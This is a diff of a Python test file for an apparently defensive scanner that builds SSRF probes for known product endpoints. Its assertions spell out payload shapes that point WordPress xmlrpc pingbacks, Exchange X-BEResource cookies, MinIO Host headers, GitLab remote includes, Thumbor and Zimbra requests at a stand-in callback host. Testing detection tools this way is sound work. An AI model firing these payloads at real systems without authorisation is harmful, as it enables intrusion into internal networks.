@@ -1,8 +1,17 @@
-from secrecon.detect.ssrf_endpoints import SOURCE, endpoint_shapes, endpoints
-from secrecon.detect.ssrf_inputs import TOGETHER, choose, groups
-from secrecon.model.asset import InputPlace, Parameter, RequestShape
-from secrecon.model.target import Origin
+from importlib import resources
 
+from secrecon.detect.fingerprint_format import parse_files
+from secrecon.detect.inject import unsafe_reason, with_value, with_values
+from secrecon.detect.ssrf_endpoints import endpoint_shapes, endpoints
+from secrecon.detect.ssrf_inputs import TOGETHER, choose, groups
+from secrecon.detect.ssrf_payloads import Bypass, Technique, value_for
+from secrecon.model.asset import InputPlace, Parameter, RequestShape
+from secrecon.model.interaction import Payload
+from secrecon.model.target import Origin
+from secrecon.net.wire import request_bytes
+
+TOKEN = "abcdefghij0123456789" + "nonce67890123"
+PAYLOAD = Payload(TOKEN, f"http://{TOKEN}.cb.test/", f"{TOKEN}.cb.test", "s", "c", "a", "l", "direct", "", "", 1.0)
 ORIGIN = Origin("http", "a.test", 80)
 
 
@@ -54,17 +63,50 @@ def test_thousands_of_fields_share_few_requests() -> None:
 
 
 def test_every_endpoint_is_a_request_that_can_be_made() -> None:
-    seen = [("http://a.test:80", endpoint.product) for endpoint in endpoints()]
-    shapes = endpoint_shapes(seen, {"http://a.test:80": ORIGIN})
-    assert len(shapes) == len(endpoints())
     for endpoint in endpoints():
-        (*_,) = endpoint.inputs
         own = endpoint_shapes([("x", endpoint.product)], {"x": ORIGIN})
-        picked = choose(own, lambda _: True, full=True, limit=1_000)
-        tested = {
-            f"{item.parameter.place}:{item.parameter.name}" for item in picked.tested if item.shape.source == SOURCE
-        }
-        assert set(endpoint.inputs) <= tested, endpoint
-        assert not (set(endpoint.keep) - set(endpoint.inputs)) & tested or len(own) > 1, endpoint
+        (made,) = [s for s in own if s.path == endpoint.path and s.method == endpoint.method]
+        picked = choose([made], lambda _: True, full=True, limit=1_000)
+        tested = {f"{item.parameter.place}:{item.parameter.name}": item for item in picked.tested}
+        assert set(endpoint.inputs) == set(tested), endpoint
+        for item in tested.values():
+            value = value_for(Bypass(Technique.DIRECT), PAYLOAD, item.parameter)
+            request = with_value(made, item.parameter, value)
+            assert request is not None, endpoint
+            wire = request_bytes(request)
+            assert TOKEN.encode() in wire, endpoint
+            assert b"{host}" not in wire.replace(b"%7B", b"{") or len(tested) > 1, endpoint
         assert endpoint.about
+        assert not unsafe_reason(made), endpoint
     assert endpoint_shapes([("http://other:80", "next.js")], {"http://a.test:80": ORIGIN}) == ()
+
+
+def test_endpoints_are_written_as_the_products_take_them() -> None:
+    def written(product: str, path: str, technique: Technique = Technique.DIRECT) -> str:
+        shapes = endpoint_shapes([("x", product)], {"x": ORIGIN})
+        made = next(s for s in shapes if s.path.startswith(path))
+        picked = choose([made], lambda _: True, full=True, limit=9)
+        values = {i.parameter: value_for(Bypass(technique), PAYLOAD, i.parameter) for i in picked.tested}
+        request = with_values(made, values)
+        assert request is not None
+        return request_bytes(request).decode("latin-1")
+
+    pingback = written("wordpress", "/xmlrpc.php")
+    assert f"<param><value><string>http://{TOKEN}.cb.test/</string></value></param>" in pingback
+    assert "<param><value><string>http://a.test/?p=1</string></value></param>" in pingback
+    assert "<methodName>pingback.ping</methodName>" in pingback
+    assert f"X-BEResource={TOKEN}.cb.test/owa/auth/x.js?~1" in written("exchange", "/owa")
+    assert f"Host: {TOKEN}.cb.test\r\n" in written("minio", "/minio")
+    pipeline = written("gitlab", "/api/v4", Technique.EXTENSION)
+    assert f"{{remote: 'http://{TOKEN}.cb.test/probe.yml'}}" in pipeline
+    assert f"GET /unsafe/8x8/http://{TOKEN}.cb.test/ HTTP" in written("thumbor", "/unsafe")
+    assert f"companyId=http%3A%2F%2F{TOKEN}.cb.test%2F%23" in written("zimbra", "/zimlet")
+
+
+def test_products_with_endpoints_are_recognised() -> None:
+    files = resources.files("secrecon.rules").joinpath("fingerprints")
+    known = {
+        f.id for f in parse_files({f.name: f.read_text("utf-8") for f in files.iterdir() if f.name[-5:] == ".yaml"})
+    }
+    assert {endpoint.product for endpoint in endpoints()} <= known
+    assert len(endpoints()) >= 30
